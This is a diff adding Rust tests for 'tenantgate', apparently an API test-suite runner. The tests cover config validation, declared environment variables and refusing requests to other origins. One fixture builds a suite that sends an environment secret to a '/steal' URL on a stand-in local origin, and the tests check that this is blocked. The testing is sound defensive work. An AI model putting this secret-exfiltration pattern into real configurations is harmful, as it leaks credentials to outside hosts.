@@ -311,3 +311,172 @@ fn a_suite_just_under_the_size_limit_is_read_quickly() {
         start.elapsed()
     );
 }
+
+/// Runs the real binary with `args` from the repository root, the environment cleared
+/// but for `PATH` and `envs`; returns (exit code, stdout, stderr).
+fn tenantgate(args: &[&str], envs: &[(&str, &str)]) -> (Option<i32>, String, String) {
+    let out = Command::new(env!("CARGO_BIN_EXE_tenantgate"))
+        .args(args)
+        .current_dir(root())
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .envs(envs.iter().copied())
+        .stdin(Stdio::null())
+        .output()
+        .expect("run tenantgate");
+    (
+        out.status.code(),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn validate_reports_every_mistake_in_one_run() {
+    // Unknown keys (two), a bad duration, an unknown and an unclosed placeholder, a word
+    // for a boolean and for a status: one run names all of them, each on its line.
+    let (code, _, err) = tenantgate(
+        &["validate", "fixtures/bad-suites/97-many-mistakes.yaml"],
+        &[],
+    );
+    assert_eq!(code, Some(2), "{err}");
+    let want = [
+        ("unknown key `targett`", ":4:1"),
+        ("invalid duration", ":5:55"),
+        ("unknown key `reed`", ":19:5"),
+        ("unknown placeholder `{{a.brand_idd}}`", ":21:11"),
+        ("`tenant_override` must be true, false", ":22:16"),
+        ("unclosed `{{`", ":24:74"),
+        ("`not_found_status` must be a whole number", ":26:23"),
+    ];
+    let found = blocks(&err);
+    for (msg, at) in want {
+        assert!(
+            found.iter().any(|b| b.contains(msg) && b.contains(at)),
+            "no `{msg}` at `{at}`:\n{err}"
+        );
+    }
+    assert_eq!(found.len(), want.len(), "{err}");
+    assert!(err.ends_with("7 problems (nothing was sent)\n"), "{err}");
+}
+
+#[test]
+fn validate_no_env_checks_without_secrets_and_names_what_a_run_needs() {
+    // A lint step has no secrets: without `--no-env` the reference suite cannot load.
+    let (code, _, err) = tenantgate(&["validate", "suites/reference-api.yaml"], &[]);
+    assert_eq!(code, Some(2), "{err}");
+    // With it, nothing is read (a set variable included) and the needs are listed.
+    let (code, out, err) = tenantgate(
+        &["validate", "--no-env", "suites/reference-api.yaml"],
+        &[("JWT_SECRET", "must-not-be-read")],
+    );
+    assert_eq!(code, Some(0), "{out}{err}");
+    assert!(
+        out.contains("environment a run needs: APP_DATABASE_URL, DATABASE_URL, JWT_SECRET\n"),
+        "{out}"
+    );
+    assert!(
+        out.contains(
+            "environment read when set (has a default): APP_ROLE, SEED_PASSWORD, TARGET_URL\n"
+        ),
+        "{out}"
+    );
+    assert!(!out.contains("must-not-be-read") && !err.contains("must-not-be-read"));
+    // Mistakes are still found: an unknown key and a bad placeholder.
+    let (code, _, err) = tenantgate(
+        &[
+            "validate",
+            "--no-env",
+            "fixtures/bad-suites/97-many-mistakes.yaml",
+        ],
+        &[],
+    );
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("7 problems"), "{err}");
+}
+
+/// A suite in a temporary directory.
+fn temp_suite(text: &str) -> (tempfile::TempDir, String) {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("suite.yaml");
+    std::fs::write(&path, text).unwrap();
+    let shown = path.display().to_string();
+    (dir, shown)
+}
+
+const SECRET: &str = "victim-secret-4b1d";
+
+fn exfiltrating_suite(url: &str, head: &str) -> String {
+    format!(
+        "version: 1\nname: exfiltration\n{head}target: {{ base_url: \"http://127.0.0.1:8080\" }}\n\
+         orgs:\n  provision:\n    - name: sign up\n      request: {{ method: POST, url: \"{url}\" }}\n      \
+         capture: {{ token: $.token, org_id: $.org.id }}\nchecks:\n  - name: brands\n    list: /brands\n"
+    )
+}
+
+#[test]
+fn a_suite_reads_only_the_environment_it_declares() {
+    let (_d, path) = temp_suite(&exfiltrating_suite(
+        "/signup?k=${TG_VICTIM_SECRET}",
+        "env: [TARGET_URL]\n",
+    ));
+    let (code, out, err) = tenantgate(&["validate", &path], &[("TG_VICTIM_SECRET", SECRET)]);
+    assert_eq!(code, Some(2), "{out}{err}");
+    assert!(
+        err.contains("`${TG_VICTIM_SECRET}` reads an environment variable the suite does not declare in `env:`"),
+        "{err}"
+    );
+    assert!(err.contains(&format!("--> {path}:8:")), "{err}");
+    assert!(!err.contains(SECRET) && !out.contains(SECRET));
+    // Declared, it is read; without `env:`, every name counts as declared, with a notice.
+    for head in ["env: [TG_VICTIM_SECRET]\n", ""] {
+        let (_d, path) = temp_suite(&exfiltrating_suite("/signup?k=${TG_VICTIM_SECRET}", head));
+        let (code, out, err) = tenantgate(&["validate", &path], &[("TG_VICTIM_SECRET", SECRET)]);
+        assert_eq!(code, Some(0), "{out}{err}");
+        assert_eq!(
+            err.contains("notice: the suite has no `env:` list"),
+            head.is_empty(),
+            "{err}"
+        );
+        assert!(!err.contains(SECRET) && !out.contains(SECRET));
+    }
+}
+
+#[test]
+fn a_request_to_another_origin_is_refused_before_anything_is_sent() {
+    // The reproduction of the issue: a sign-up URL on another origin carrying a secret.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let origin = format!("http://{}", listener.local_addr().unwrap());
+    let url = format!("{origin}/steal?k=${{TG_VICTIM_SECRET}}");
+    let (_d, path) = temp_suite(&exfiltrating_suite(&url, ""));
+    for cmd in ["validate", "run"] {
+        let (code, out, err) = tenantgate(&[cmd, &path], &[("TG_VICTIM_SECRET", SECRET)]);
+        assert_eq!(code, Some(2), "{cmd}: {out}{err}");
+        assert!(
+            err.contains(&format!("this request would go to `{origin}`")),
+            "{cmd}: {err}"
+        );
+        assert!(err.contains(&format!("--> {path}:7:37")), "{err}");
+        assert!(
+            !err.contains(SECRET) && !out.contains(SECRET),
+            "{cmd}: {err}"
+        );
+    }
+    assert!(listener.accept().is_err(), "the other origin was contacted");
+    // Declared by the suite, or allowed on the command line, it loads.
+    let declared = exfiltrating_suite(&url, "").replace(
+        "target: { base_url: \"http://127.0.0.1:8080\" }",
+        &format!(
+            "target: {{ base_url: \"http://127.0.0.1:8080\", allowed_origins: [\"{origin}\"] }}"
+        ),
+    );
+    let (_d2, declared) = temp_suite(&declared);
+    let (code, _, err) = tenantgate(&["validate", &declared], &[("TG_VICTIM_SECRET", SECRET)]);
+    assert_eq!(code, Some(0), "{err}");
+    let (code, _, err) = tenantgate(
+        &["validate", "--allow-origin", &origin, &path],
+        &[("TG_VICTIM_SECRET", SECRET)],
+    );
+    assert_eq!(code, Some(0), "{err}");
+}
